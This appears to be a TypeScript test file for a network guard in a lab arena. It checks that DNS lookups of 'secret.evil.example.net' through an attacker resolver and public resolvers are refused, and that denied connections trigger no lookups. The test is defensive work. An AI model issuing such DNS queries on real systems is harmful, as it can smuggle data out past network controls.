// Cases of DNS that a sniffer and the lab's own resolver decide: what the internet has heard.
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Arena, ATTACKER } from './arena.ts';
import { Told } from './told.ts';

const arena = new Arena('asked');
const told = new Told();
beforeAll(async () => {
  await arena.open();
  await arena.guard();
}, 60_000);
afterAll(() => {
  arena.close();
  told.print();
});

test('cases 63, 64 and 73 (U), questions to other resolvers, by UDP and TCP, and reverse ones', async () => {
  const { guarded } = arena;
  const before = guarded.heard.length;
  const dig = (...words: string[]) => guarded.run('dig', '+tries=1', '+time=2', ...words).stdout;
  expect(dig('secret.evil.example.net', `@${ATTACKER}`)).toContain('REFUSED');
  expect(dig('+tcp', 'secret.evil.example.net', '@8.8.8.8')).toContain('REFUSED');
  expect(dig('secret.evil.example.net', 'TXT', '@192.0.2.53')).toContain('REFUSED');
  expect(dig('-x', '2001:db8::5ec4:e7', '@192.0.2.53')).toContain('NXDOMAIN');
  expect(guarded.heard.slice(before).filter((text) => /evil|arpa/u.test(text))).toEqual([]);
  const refused = await guarded.events((all) =>
    all.some(({ dst_hostname: name }) => name === 'secret.evil.example.net'),
  );
  expect(refused.some(({ event_type: type }) => type === 'dns_blocked')).toBe(true);
  told.closed('63, 64, 73', 'questions to other resolvers');
});

test('case 75 (U), what is denied starts no look-up of its own', async () => {
  for (const to of [ATTACKER, '203.0.112.75']) arena.attempt('U', 'stream()', to);
  await arena.guarded.events((all) => all.some((event) => event.dst_ip === '203.0.112.75'));
  await arena.barrier();
  expect(arena.guarded.heard.filter((text) => /arpa|198\.51|PTR/u.test(text))).toEqual([]);
  told.closed(75, 'no look-up of what is denied');
});
